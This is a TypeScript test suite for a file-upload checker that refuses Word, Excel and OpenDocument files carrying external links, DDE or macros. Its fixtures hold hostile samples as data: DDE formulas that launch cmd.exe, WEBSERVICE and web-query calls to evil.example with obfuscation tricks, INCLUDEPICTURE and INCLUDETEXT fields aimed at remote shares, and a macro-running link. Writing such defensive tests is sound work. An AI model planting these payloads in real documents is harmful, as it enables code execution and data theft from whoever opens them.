import { describe, expect, it } from 'vitest';
import { docxWith, odtWith, relation, sheetRow, xlsxWith } from '#test/support/hostile-files/office.ts';
import { checkOffice } from './office-check.ts';
import { FileRefusal } from './rules.ts';

/** The type, or the code of the refusal and what was found. */
async function verdict(bytes: Buffer): Promise<string> {
	try {
		return (await checkOffice(bytes)).type ?? 'unknown';
	} catch (error) {
		if (error instanceof FileRefusal) return [error.code, error.params.what].join(' ').trim();
		throw error;
	}
}

const cell = (formula: string) => `<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`;
const sheet = (sheetData: string) => xlsxWith({ sheetData });
const part = (name: string, kind: string, bytes: string) => ({
	types: `<Override PartName="/${name}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${kind}+xml"/>`,
	parts: [{ name, bytes }]
});
const webQuery =
	'<connections><connection id="1" name="a" type="4" refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></connections>';

describe('a workbook', () => {
	it.each([
		['a web query', xlsxWith(part('xl/connections.xml', 'connections', webQuery)), 'connections'],
		['a web query under another name', xlsxWith(part('xl/a.xml', 'connections', webQuery)), 'connections'],
		['a link to a program', sheet(cell("cmd|'/c calc'!A0")), 'DDE'],
		['a link to a program named in quotes', sheet(cell("'cmd'|'/c calc'!A0")), 'DDE'],
		['a link to a program behind a text', sheet(cell('IF(A1="a|b",1,MSEXCEL|\'\\..\\cmd.exe\'!A0)')), 'DDE'],
		['a function that fetches', sheet(cell('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)')), 'WEBSERVICE'],
		['one inside another, in small letters', sheet(cell('IFERROR(filterxml(webservice("http://a"),"//b"),0)')), 'FILTERXML'],
		['one written in references to its letters', sheet(cell('&#87;EBSERVICE("http://a")')), 'WEBSERVICE'],
		['one behind a sheet with a quote in its name', sheet(cell('\'a"b\'!A1&amp;WEBSERVICE("http://a")')), 'WEBSERVICE'],
		['one between columns with apostrophes', sheet(cell("T['#a]&amp;WEBSERVICE(A1)&amp;T['#b]")), 'WEBSERVICE'],
		['a picture that is fetched', sheet(cell('_xlfn._xlws.IMAGE("http://a")')), 'IMAGE'],
		['a server of values', sheet(cell('RTD("a",,"b")')), 'RTD'],
		['one in an element with a prefix', sheet(cell('1').replaceAll('f>', 'x:f>').replace('>1<', '>WEBSERVICE("http://a")<')), 'WEBSERVICE'],
		['one that the rule of a colour calculates', sheet(`${cell('1')}<formula>WEBSERVICE("http://a")</formula>`), 'WEBSERVICE'],
		[
			'one behind a name',
			xlsxWith(part('xl/names.xml', 'sheet.main', '<definedName name="a">WEBSERVICE("http://a")</definedName>')),
			'WEBSERVICE'
		],
		['another workbook', xlsxWith({ relations: relation('externalLinkPath', 'Book2.xlsx') }), 'externalLinkPath'],
		[
			'a program linked under another name',
			xlsxWith(part('xl/a.xml', 'externalLink', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')),
			'DDE'
		]
	])('with %s is refused', async (_what, bytes, what) => {
		expect(await verdict(bytes)).toBe(`office_external_link ${what}`);
	});

	it('with a formula that lies behind a quarter of a million others is refused', async () => {
		const many = Array.from({ length: 60_000 }, (_row, index) => cell(`SUM(B${index + 1}:C${index + 1})`)).join('');
		expect(await verdict(sheet(many))).toBe('xlsx');
		expect(await verdict(sheet(many + cell('WEBSERVICE("http://a")')))).toBe('office_external_link WEBSERVICE');
	});

	it.each(['WEB<!-- -->SERVICE("http://a")', '<![CDATA[WEBSERVICE("http://a")]]>', `"${'a'.repeat(300_000)}`])(
		'that hides a formula is refused: %.30s',
		async (formula) => {
			const open = formula.length > 1000 ? sheet(`<row><c><f>${formula}`) : sheet(cell(formula));
			expect(await verdict(open)).toBe('office_broken');
		}
	);

	it('with text about such formulas, sheets with odd names, and ordinary formulas comes in', async () => {
		const formulas = [
			'SUM(A1:A9)',
			'IF(A1="WEBSERVICE(","a|b","")',
			"'A|B'!C1+1",
			'HYPERLINK("https://hatinh.gov.vn","a")',
			'MYIMAGE(1)',
			"'[1]A|B''s'!C1"
		];
		const rows = sheetRow(["=cmd|'/c calc'!A0", 'WEBSERVICE("http://a")'], 1) + formulas.map(cell).join('') + '<f t="shared" si="0"/>';
		expect(await verdict(sheet(rows))).toBe('xlsx');
		expect(await verdict(xlsxWith(part('xl/connections.xml', 'connections', '<connections/>')))).toBe('xlsx');
	});
});

const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const field = (...inside: string[]) => mark('begin') + inside.join('') + mark('separate') + '<w:r><w:t>x</w:t></w:r>' + mark('end');
const body = (...runs: string[]) => docxWith({ body: `<w:p>${runs.join('')}</w:p>` });

describe('a Word document', () => {
	it.each([
		['a picture on another machine', body(field(run('INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\a.png" \\d'))), 'INCLUDEPICTURE'],
		['a picture from the web, the switch first', body(field(run(' includepicture \\d "http://evil.example/a.png" '))), 'INCLUDEPICTURE'],
		['a text from the web, cut in two', body(field(run('INCLUDE'), run('TEXT "https://evil.example/a.docx"'))), 'INCLUDETEXT'],
		['a text by a file address', body(field(run('INCLUDETEXT file://///evil/a.docx'))), 'INCLUDETEXT'],
		['an import', body(field(run('IMPORT //evil/a.png'))), 'IMPORT'],
		['an object linked to another machine', body(field(run('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" "S!R1C1" \\a'))), 'LINK'],
		[
			'a picture whose address another field makes',
			body(field(run('INCLUDEPICTURE '), field(run('QUOTE 104 116')), run(' \\* MERGEFORMAT'))),
			'INCLUDEPICTURE'
		],
		['a program, right behind another field', body(field(run('PAGE')), field(run('DDEAUTO c:\\\\cmd.exe "/c calc"'))), 'DDEAUTO'],
		['a program, cut by a comment', body(field(run('DDE<!-- -->AUTO c:\\\\cmd.exe'))), 'DDEAUTO'],
		['a program in a simple field', body('<w:fldSimple w:instr="DDE cmd a"/>'), 'DDE'],
		['a simple field of another prefix', body('<x:fldSimple x:instr="INCLUDETEXT http://a"/>'), 'INCLUDETEXT'],
		['a question to a database', body(field(run('DATABASE \\d "C:\\\\a.mdb" \\s "select 1"'))), 'DATABASE'],
		[
			'letters by mail from a database',
			docxWith({
				parts: [{ name: 'word/settings.xml', bytes: '<w:settings><w:mailMerge><w:connectString w:val="a"/></w:mailMerge></w:settings>' }]
			}),
			'mailMerge'
		],
		[
			'a part on the web that claims to be inside',
			docxWith({ relations: relation('image', 'http://evil.example/a.png', 'Internal') }),
			'image'
		]
	])('with %s is refused', async (_what, bytes, what) => {
		expect(await verdict(bytes)).toBe(`office_external_link ${what}`);
	});

	it('with a web page inside that Word takes in on opening is refused', async () => {
		const page = { name: 'word/a.html', bytes: '<img src="http://evil.example/a.png">' };
		const bytes = docxWith({ relations: relation('aFChunk', 'a.html', 'Internal'), parts: [page] });
		expect(await verdict(bytes)).toBe('office_macros aFChunk');
	});

	it('with fields as Word makes them comes in', async () => {
		const fields = [
			'PAGE',
			' TOC \\o "1-3" \\h \\z \\u ',
			'HYPERLINK "https://hatinh.gov.vn/LINK a" \\o "Database DDL"',
			'INCLUDEPICTURE "C:\\\\Users\\\\an\\\\Temp\\\\clip_image001.png" \\* MERGEFORMATINET',
			'INCLUDEPICTURE "cid:image001.png@01D" \\* MERGEFORMAT',
			'REF _Ref1 \\h'
		];
		expect(await verdict(body(...fields.map((text) => field(run(text)))))).toBe('docx');
	});
});

describe('an OpenDocument text', () => {
	it.each([
		['a picture on another machine', '<draw:image xlink:href="file://///evil/a.png"/>', 'office_external_link image'],
		[
			'a section of the web under another prefix',
			'<text:section-source x:href="http://evil.example/a.odt"/>',
			'office_external_link section-source'
		],
		['a table of another file', '<table:cell-range-source xlink:href="a.ods"/>', 'office_external_link cell-range-source'],
		[
			'a formula that fetches',
			'<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://a&quot;)"/>',
			'office_external_link WEBSERVICE'
		],
		['a formula that asks a program', '<table:table-cell table:formula=\'of:=DDE("soffice";"a";"b")\'/>', 'office_external_link DDE'],
		['a link that runs a macro', '<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>', 'office_macros a'],
		['a script under another prefix', '<s:event-listener/>', 'office_macros script']
	])('with %s is refused', async (_what, content, refusal) => {
		expect(await verdict(odtWith({ content }))).toBe(refusal);
	});

	it('with links, pictures inside and ordinary formulas comes in', async () => {
		const content =
			'<text:a xlink:href="https://hatinh.gov.vn">a</text:a><draw:image xlink:href="Pictures/a.png"/><table:table-cell table:formula="of:=SUM({1;2|3;4})"/>';
		expect(await verdict(odtWith({ content }))).toBe('odt');
	});
});
